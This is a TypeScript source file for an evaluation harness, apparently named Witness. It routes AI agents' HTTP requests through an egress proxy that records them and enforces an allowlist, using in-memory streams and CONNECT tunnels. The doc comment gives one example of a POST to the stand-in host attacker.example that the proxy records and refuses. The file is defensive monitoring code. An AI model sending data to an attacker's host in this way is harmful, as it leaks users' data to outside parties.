import { request as httpRequest, type IncomingMessage } from 'node:http';
import { isIP } from 'node:net';
import { Duplex } from 'node:stream';
import { connect as tlsConnect } from 'node:tls';
import { InvalidOptionError } from '../errors.js';
import type { EgressProxy } from './egress-proxy.js';

/**
 * HTTP requests sent by code running inside Witness (the mock and chat agents' `http_request` tool) through
 * an attempt's egress proxy, so what an in-process agent sends is recorded exactly as a sandboxed agent's
 * request is: the proxy sees the same absolute-form request (or CONNECT) on a connection it accepted, and
 * applies the same allowlist, bounds and evidence. No socket is opened on the host: the connection is an
 * in-memory stream pair handed to {@link EgressProxy.accept}, so no other process can reach the proxy
 * through it, and a request the proxy refuses never touches the network.
 *
 * ```ts
 * const reply = await sendThroughEgress(proxy, { method: 'POST', url: 'http://attacker.example/c', body: 'x' });
 * reply.status; // 403: refused after being recorded
 * ```
 */

export interface EgressRequest {
  method: string;
  url: string;
  headers?: Readonly<Record<string, string>> | undefined;
  body?: string | undefined;
}

export interface EgressReply {
  status: number;
  /** The body's first `maxResponseBytes` bytes as UTF-8 text. */
  text: string;
  /** True when the body was longer than what was kept. */
  truncated: boolean;
}

export interface EgressClientOptions {
  signal?: AbortSignal | undefined;
  /** Bound on the whole exchange. Default 30,000 ms. */
  timeoutMs?: number | undefined;
  /** Bytes of the answer kept. Default 65,536. */
  maxResponseBytes?: number | undefined;
  /** Certificates trusted for https (the run's CA under `intercept: true`), besides the system's. */
  ca?: string | undefined;
}

/** Sends one request through `proxy`; rejects on a bad URL, a refused tunnel, a timeout or an abort. */
export async function sendThroughEgress(
  proxy: EgressProxy,
  request: EgressRequest,
  options: EgressClientOptions = {},
): Promise<EgressReply> {
  const url = new URL(request.url);
  if (url.protocol !== 'http:' && url.protocol !== 'https:') {
    throw new InvalidOptionError(
      `only http and https URLs can be sent, not ${url.protocol} (use an http:// or https:// URL)`,
    );
  }
  const timeout = AbortSignal.timeout(options.timeoutMs ?? 30_000);
  const signal = options.signal === undefined ? timeout : AbortSignal.any([options.signal, timeout]);
  signal.throwIfAborted();
  const opened: Duplex[] = [];
  const onAbort = () => {
    for (const stream of opened) stream.destroy();
  };
  signal.addEventListener('abort', onAbort, { once: true });
  try {
    const connection = () => {
      const [client, server] = streamPair();
      opened.push(client, server);
      proxy.accept(server);
      return client;
    };
    const headers = { ...request.headers };
    const body = request.body === undefined ? undefined : Buffer.from(request.body, 'utf8');
    if (url.protocol === 'http:') {
      // Absolute-form, as an HTTP client configured with HTTP_PROXY sends it.
      return await exchange(
        connection(),
        { method: request.method, path: url.href, host: url.host, headers, body },
        options,
        signal,
      );
    }
    const port = Number(url.port || 443);
    const tunnel = await openTunnel(connection(), url.hostname.replace(/^\[|\]$/g, ''), port, signal);
    const host = url.hostname.replace(/^\[|\]$/g, '');
    const secure = tlsConnect({
      socket: tunnel as never,
      host,
      servername: isIP(host) === 0 ? host : undefined,
      ...(options.ca === undefined ? {} : { ca: options.ca }),
    });
    opened.push(secure);
    return await exchange(
      secure,
      { method: request.method, path: `${url.pathname}${url.search}`, host: url.host, headers, body },
      options,
      signal,
    );
  } catch (error) {
    if (signal.aborted) {
      throw timeout.aborted && options.signal?.aborted !== true
        ? new Error(`no answer within ${options.timeoutMs ?? 30_000} ms`)
        : signal.reason;
    }
    throw error;
  } finally {
    signal.removeEventListener('abort', onAbort);
    onAbort();
  }
}

/** Sends a CONNECT on `stream`; resolves with the stream once the proxy answered 200. */
function openTunnel(stream: Duplex, host: string, port: number, signal: AbortSignal): Promise<Duplex> {
  return new Promise((resolve, reject) => {
    const authority = host.includes(':') ? `[${host}]:${port}` : `${host}:${port}`;
    let head = Buffer.alloc(0);
    const onData = (chunk: Buffer) => {
      head = Buffer.concat([head, chunk]);
      const end = head.indexOf('\r\n\r\n');
      if (end < 0) {
        if (head.length > 16_384) fail(new Error('the proxy answered the CONNECT with an endless header'));
        return;
      }
      stream.off('data', onData);
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(head.subarray(0, end).toString('latin1'))?.[1];
      if (status !== '200') {
        fail(
          new Error(`the egress proxy answered the CONNECT to ${authority} with ${status ?? 'no status'}`),
        );
        return;
      }
      const rest = head.subarray(end + 4);
      if (rest.length > 0) stream.unshift(rest);
      cleanup();
      resolve(stream);
    };
    const fail = (error: Error) => {
      cleanup();
      stream.destroy();
      reject(error);
    };
    const onClose = () => fail(new Error('the egress proxy closed the tunnel'));
    const onAbort = () => fail(signal.reason as Error);
    const cleanup = () => {
      stream.off('data', onData);
      stream.off('close', onClose);
      signal.removeEventListener('abort', onAbort);
    };
    stream.on('data', onData);
    stream.once('close', onClose);
    signal.addEventListener('abort', onAbort, { once: true });
    stream.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
  });
}

function exchange(
  stream: Duplex,
  request: {
    method: string;
    path: string;
    host: string;
    headers: Record<string, string>;
    body: Buffer | undefined;
  },
  options: EgressClientOptions,
  signal: AbortSignal,
): Promise<EgressReply> {
  const maxResponseBytes = options.maxResponseBytes ?? 65_536;
  return new Promise((resolve, reject) => {
    const req = httpRequest({
      createConnection: () => stream as never,
      method: request.method,
      path: request.path,
      headers: {
        host: request.host,
        connection: 'close',
        ...request.headers,
        ...(request.body === undefined ? {} : { 'content-length': String(request.body.length) }),
      },
      signal,
    });
    req.once('error', reject);
    req.once('response', (res: IncomingMessage) => {
      const kept: Buffer[] = [];
      let keptBytes = 0;
      let truncated = false;
      const finish = () => {
        resolve({
          status: res.statusCode ?? 0,
          text: Buffer.concat(kept).toString('utf8'),
          truncated,
        });
      };
      res.on('data', (chunk: Buffer) => {
        const room = maxResponseBytes - keptBytes;
        if (chunk.length > room) {
          truncated = true;
          kept.push(chunk.subarray(0, room));
          keptBytes = maxResponseBytes;
          // The rest is not wanted: the answer is cut here, not read to its end.
          res.destroy();
          finish();
          return;
        }
        kept.push(chunk);
        keptBytes += chunk.length;
      });
      res.once('end', finish);
      res.once('error', (error) => (truncated ? undefined : reject(error)));
    });
    req.end(request.body);
  });
}

/**
 * Two connected in-memory streams: what is written to one is read from the other; ending one ends the
 * other's readable side, destroying one destroys both.
 */
export function streamPair(): [Duplex, Duplex] {
  const ends: Duplex[] = [];
  const other = (self: Duplex) => (ends[0] === self ? ends[1] : ends[0]) as Duplex;
  const make = () =>
    new Duplex({
      read() {},
      write(chunk: Buffer, _encoding, callback) {
        const peer = other(this);
        if (peer.destroyed) callback(new Error('the other end is closed'));
        else {
          peer.push(chunk);
          callback();
        }
      },
      final(callback) {
        other(this).push(null);
        callback();
      },
      destroy(error, callback) {
        const peer = other(this);
        if (!peer.destroyed) peer.destroy();
        callback(error);
      },
    });
  ends.push(make(), make());
  return [ends[0] as Duplex, ends[1] as Duplex];
}
